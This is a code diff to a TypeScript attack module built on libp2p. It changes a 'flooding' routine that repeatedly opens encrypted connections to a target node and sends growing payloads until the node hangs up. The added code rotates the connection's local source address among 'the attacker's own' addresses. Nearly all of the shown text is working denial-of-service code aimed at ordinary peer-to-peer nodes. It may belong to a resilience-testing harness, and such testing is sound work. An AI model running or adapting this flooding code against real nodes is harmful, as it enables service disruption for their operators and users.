@@ -7,7 +7,7 @@ import { tcp } from '@libp2p/tcp'
 import { multiaddr } from '@multiformats/multiaddr'
 import { createLibp2p } from 'libp2p'
 import type { Connection, Libp2p, MessageStream, PrivateKey, StreamMuxer, StreamMuxerFactory } from '@libp2p/interface'
-import { again, attacking, many, pause, type Target } from './target.js'
+import { again, attacking, many, ownAddress, pause, type Target } from './target.js'
 
 export const FRAME = { data: 0, window: 1, ping: 2, goAway: 3 }
 export const FLAG = { syn: 1, ack: 2, fin: 4, rst: 8 }
@@ -76,8 +76,13 @@ export class Wire {
 
 export interface WireInit {
   privateKey?: PrivateKey
-  /** Address of this machine that the connection comes from. */
+  /** @default one of the attacker's own */
   from?: string
+}
+
+/** Options of the TCP transport. */
+export function from (localAddress: string): NonNullable<Parameters<typeof tcp>[0]> {
+  return { dialOpts: { localAddress } as never }
 }
 
 /** Dials the node with a PeerId of its own, which it has proved when this resolves. */
@@ -92,7 +97,7 @@ export async function wire ({ address }: Target, signal: AbortSignal, init: Wire
   }
   const host = await createLibp2p({
     ...(init.privateKey === undefined ? {} : { privateKey: init.privateKey }),
-    transports: [tcp(init.from === undefined ? {} : { outgoing: { localAddress: init.from } } as never)],
+    transports: [tcp(from(init.from ?? ownAddress()))],
     connectionEncrypters: [noise()],
     streamMuxers: [() => muxer],
     connectionManager: { reconnectRetries: 0 },
@@ -119,9 +124,9 @@ export const noise1MiB = randomBytes(1024 ** 2)
 
 
 /** Proved connections, again and again, each of which sends `bytes(n)` for n from 0 on until the node hangs up. */
-export async function flooding (target: Target, signal: AbortSignal, bytes: (n: number) => Uint8Array, { count = 4, reads = true, ms = 0, first }: { count?: number, reads?: boolean, ms?: number, first?: (on: Wire) => Promise<void> } = {}): Promise<void> {
+export async function flooding (target: Target, signal: AbortSignal, bytes: (n: number) => Uint8Array, { count = 4, reads = true, ms = 0, first, ...init }: WireInit & { count?: number, reads?: boolean, ms?: number, first?: (on: Wire) => Promise<void> } = {}): Promise<void> {
   await many(count, async () => again(signal, async () => {
-    const on = await wire(target, signal)
+    const on = await wire(target, signal, init)
     await first?.(on)
     if (!reads) on.stopReading()
     try {
